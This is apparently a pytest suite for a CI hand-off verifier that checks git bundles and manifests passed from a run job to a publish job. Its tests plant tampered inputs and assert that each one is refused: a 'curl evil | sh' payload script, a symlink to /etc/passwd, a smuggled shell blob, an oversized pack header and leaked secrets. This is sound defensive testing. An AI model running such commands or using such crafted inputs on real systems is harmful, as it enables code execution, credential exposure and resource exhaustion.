"""A leg's hand-off from its run job to its publish job, as an attacker in the run job would
try it: bundle → (tamper) → verify. Every tampered hand-off is refused with its reason and
nothing of it reaches the publish job's repository or the remote; a clean one verifies,
applies, and the remote then holds exactly the leg's new commits."""

from __future__ import annotations

import base64
import hashlib
import json
import zlib

import pygit2
import pytest

from omg.ci.handoff import Canaries, Limits, Refused, Verified, apply, verify
from omg.ci.handoff.manifest import parse
from tests.ci.handoff.handoffkit import (
    LANE_REF,
    RUN_REF,
    SECRET,
    Stage,
    blob_at,
    commit_on,
    remote_refs,
)


def refused(stage: Stage, **change: object) -> Refused:
    """Verify the stage's artifact; it must be refused, and nothing written anywhere."""
    before, origin_before = stage.pub_state(), remote_refs(stage.origin)
    outcome = verify(stage.artifact, stage.pub, stage.expected(**change))
    assert isinstance(outcome, Refused), outcome
    assert stage.pub_state() == before
    assert remote_refs(stage.origin) == origin_before
    assert SECRET not in outcome.message
    return outcome


def test_a_clean_leg_verifies_applies_and_the_remote_holds_exactly_its_new_commits(
    stage: Stage,
) -> None:
    origin = pygit2.Repository(str(stage.origin))
    objects_before = frozenset(str(o) for o in origin.odb)
    manifest = stage.manifest()
    outcome = verify(stage.artifact, stage.pub, stage.expected())
    assert isinstance(outcome, Verified), outcome
    assert {m.ref for m in outcome.moves} == {RUN_REF, LANE_REF}
    assert stage.pub_state()[1] == frozenset(str(o) for o in pygit2.Repository(str(stage.pub)).odb)
    apply(outcome, "origin")
    after = remote_refs(stage.origin)
    for r in manifest["refs"]:
        assert after[r["ref"]] == r["new"]
    run = pygit2.Repository(str(stage.run))
    new = {str(o) for o in run.odb} - objects_before
    reached = frozenset(str(o) for o in pygit2.Repository(str(stage.origin)).odb)
    pack_objects = reached - objects_before
    assert pack_objects <= new and len(pack_objects) == manifest["pack"]["objects"]
    assert blob_at(stage.origin, RUN_REF, "state.json") == blob_at(stage.run, RUN_REF, "state.json")
    assert not outcome.quarantine.path.exists()


def test_the_bundle_is_deterministic_and_its_manifest_checks(stage: Stage) -> None:
    first = (stage.artifact / "objects.pack").read_bytes(), stage.manifest()
    stage.rebundle()
    assert ((stage.artifact / "objects.pack").read_bytes(), stage.manifest()) == first
    assert parse((stage.artifact / "manifest.json").read_bytes())["run_id"] == "r9"


def test_a_forged_verdict_in_state_json_is_refused(stage: Stage) -> None:
    state = json.loads(blob_at(stage.run, RUN_REF, "state.json"))
    state["nodes"]["finish"]["verdict"] = "FAIL"
    commit_on(stage.run, RUN_REF, {"state.json": json.dumps(state, indent=2).encode()})
    stage.rebundle()
    out = refused(stage)
    assert out.reason == "record" and "state.json" in out.where and "fold" in out.why


def test_a_forged_verdict_in_the_event_log_is_refused(stage: Stage) -> None:
    log = blob_at(stage.run, RUN_REF, "events.jsonl").decode()
    forged = log.replace('"event":"node_passed"', '"event":"node_failed"', 1)
    assert forged != log
    commit_on(stage.run, RUN_REF, {"events.jsonl": forged.encode()})
    stage.rebundle()
    assert refused(stage).reason == "record"


def test_an_extra_event_is_refused(stage: Stage) -> None:
    log = blob_at(stage.run, RUN_REF, "events.jsonl").decode().splitlines()
    last = json.loads(log[-1])
    extra = {**last, "seq": last["seq"] + 1}
    text = "\n".join([*log, json.dumps(extra)]) + "\n"
    commit_on(stage.run, RUN_REF, {"events.jsonl": text.encode()})
    stage.rebundle()
    out = refused(stage)
    assert out.reason == "record" and "seq 14" in out.why


def test_a_foreign_file_in_the_run_directory_is_refused(stage: Stage) -> None:
    commit_on(stage.run, RUN_REF, {"payload.sh": b"curl evil | sh\n"})
    stage.rebundle()
    out = refused(stage)
    assert (out.reason, out.where) == ("tree", f"{RUN_REF}:payload.sh")


def test_a_symbolic_link_in_the_run_directory_is_refused(stage: Stage) -> None:
    commit_on(stage.run, RUN_REF, {"artifacts/write.out": b"/etc/passwd"}, mode=0o120000)
    stage.rebundle()
    out = refused(stage)
    assert out.reason == "tree" and "symbolic link" in out.why


def test_a_2_gb_pack_file_is_refused_by_its_size_before_it_is_read(stage: Stage) -> None:
    with (stage.artifact / "objects.pack").open("r+b") as fh:
        fh.truncate(2 << 30)  # sparse: no 2 GB is written
    out = refused(stage)
    assert (out.reason, out.where) == ("size", "objects.pack")


def test_an_object_declaring_2_gb_is_refused_before_it_is_inflated(stage: Stage) -> None:
    size = 2 << 30  # the entry's header says 2 GiB; its zlib stream is a few bytes
    head = bytearray([(3 << 4) | (size & 15) | 0x80])
    size >>= 4
    while size:
        head.append((size & 0x7F) | (0x80 if size >> 7 else 0))
        size >>= 7
    body = b"PACK" + (2).to_bytes(4, "big") + (1).to_bytes(4, "big") + bytes(head)
    body += zlib.compress(b"x")
    data = body + hashlib.sha1(body).digest()
    _replace_pack(stage, data, objects=1)
    out = refused(stage)
    assert out.reason == "pack" and "declares" in out.why


def test_a_file_past_the_per_file_bound_is_refused(stage: Stage) -> None:
    commit_on(stage.run, RUN_REF, {"failed/write.out": b"x" * 5000})
    stage.rebundle()
    out = refused(stage, limits=Limits(file_bytes=4096))
    assert (out.reason, out.where) == ("size", f"{RUN_REF}:failed/write.out")


def test_a_pack_with_an_extra_object_is_refused(stage: Stage) -> None:
    run = pygit2.Repository(str(stage.run))
    manifest = stage.manifest()
    from omg.git.pack import build, new_objects

    haves = [r["old"] for r in manifest["refs"] if r["old"]] + manifest["base"]
    oids = new_objects(run, [r["new"] for r in manifest["refs"]], haves)
    foreign = str(run.create_blob(b"#!/bin/sh\necho smuggled\n"))
    _replace_pack(stage, build(run, [*oids, foreign]), objects=len(oids) + 1)
    out = refused(stage)
    assert out.reason == "objects" and foreign[:12] in out.why


def test_a_ref_not_planned_is_refused(stage: Stage) -> None:
    manifest = stage.manifest()
    main = stage.legs.main
    manifest["refs"].append({"ref": "refs/heads/main", "old": main, "new": main})
    stage.write_manifest(manifest)
    out = refused(stage)
    assert (out.reason, out.where) == ("plan", "refs/heads/main")


def test_a_lane_of_another_run_is_refused(stage: Stage) -> None:
    manifest = stage.manifest()
    manifest["refs"][0]["ref"] = "refs/heads/omg/work/other/lane"
    stage.write_manifest(manifest)
    assert refused(stage).reason == "plan"


def test_a_wrong_run_id_is_refused(stage: Stage) -> None:
    out = refused(stage, run_id="r10")
    assert out.reason == "plan" and "'r10'" in out.why


def test_an_old_commit_other_than_the_remotes_is_refused(stage: Stage) -> None:
    refs = dict(stage.legs.plan.olds)
    refs[RUN_REF] = stage.legs.main
    assert refused(stage, refs=refs).reason == "plan"


def test_a_run_branch_that_does_not_descend_from_where_it_stood_is_refused(stage: Stage) -> None:
    repo = pygit2.Repository(str(stage.run))
    tip = repo[repo.references[RUN_REF].target].peel(pygit2.Commit)
    orphan = repo.create_commit(None, tip.author, tip.committer, "rewritten", tip.tree_id, [])
    repo.references[RUN_REF].set_target(orphan)
    stage.rebundle()
    out = refused(stage)
    assert (out.reason, out.where) == ("ancestry", RUN_REF)


def test_a_lane_that_does_not_descend_from_the_base_is_refused(stage: Stage) -> None:
    repo = pygit2.Repository(str(stage.run))
    tip = repo[repo.references[LANE_REF].target].peel(pygit2.Commit)
    new = "refs/heads/omg/work/r9/new"
    orphan = repo.create_commit(new, tip.author, tip.committer, "x", tip.tree_id, [])
    assert orphan is not None
    stage.rebundle()
    out = refused(stage)
    assert (out.reason, out.where) == ("ancestry", "refs/heads/omg/work/r9/new")


@pytest.mark.parametrize(
    "form",
    [SECRET, base64.b64encode(SECRET.encode()).decode()],
    ids=["as-is", "base64"],
)
def test_a_secret_in_a_transcript_is_refused(stage: Stage, form: str) -> None:
    line = json.dumps({"type": "assistant", "text": f"the key is {form}"}) + "\n"
    commit_on(stage.run, RUN_REF, {"sessions/s1.jsonl": line.encode()})
    stage.rebundle()
    out = refused(stage)
    assert out.reason == "secret"


def test_a_secret_found_by_its_digest_is_refused(stage: Stage) -> None:
    commit_on(stage.run, LANE_REF, {"leak.txt": f"KEY={SECRET}\n".encode()})
    stage.rebundle()
    digest = hashlib.sha256(SECRET.encode()).hexdigest()
    assert refused(stage, canaries=Canaries.of(digests=[digest])).reason == "secret"


def test_a_secret_in_the_comment_is_refused(stage: Stage) -> None:
    manifest = stage.manifest()
    manifest["publish"]["comment"]["body"] = f"done {SECRET}"
    stage.write_manifest(manifest)
    assert refused(stage).reason == "secret"


def test_a_status_on_another_commit_or_a_text_past_githubs_limits_is_refused(
    stage: Stage,
) -> None:
    manifest = stage.manifest()
    manifest["publish"]["status"]["sha"] = "0" * 40
    stage.write_manifest(manifest)
    assert refused(stage).where == "status"
    manifest["publish"]["status"]["sha"] = stage.legs.main
    manifest["publish"]["comment"]["body"] = "x" * 65537
    stage.write_manifest(manifest)
    assert (refused(stage).reason, refused(stage).where) == ("text", "comment")


def test_a_foreign_file_or_link_in_the_artifact_directory_is_refused(stage: Stage) -> None:
    (stage.artifact / "extra.bin").write_bytes(b"x")
    assert refused(stage).reason == "artifact"
    (stage.artifact / "extra.bin").unlink()
    pack = stage.artifact / "objects.pack"
    pack.rename(stage.artifact.parent / "elsewhere.pack")
    pack.symlink_to(stage.artifact.parent / "elsewhere.pack")
    assert refused(stage).reason == "artifact"


def test_a_manifest_off_its_schema_is_refused(stage: Stage) -> None:
    manifest = stage.manifest()
    manifest["refs"][0]["new"] = "not-a-sha"
    stage.write_manifest(manifest)
    out = refused(stage)
    assert out.reason == "manifest" and "refs/0/new" in out.why


def _replace_pack(stage: Stage, data: bytes, *, objects: int) -> None:
    (stage.artifact / "objects.pack").write_bytes(data)
    manifest = stage.manifest()
    manifest["pack"].update(
        bytes=len(data), sha256=hashlib.sha256(data).hexdigest(), objects=objects
    )
    stage.write_manifest(manifest)
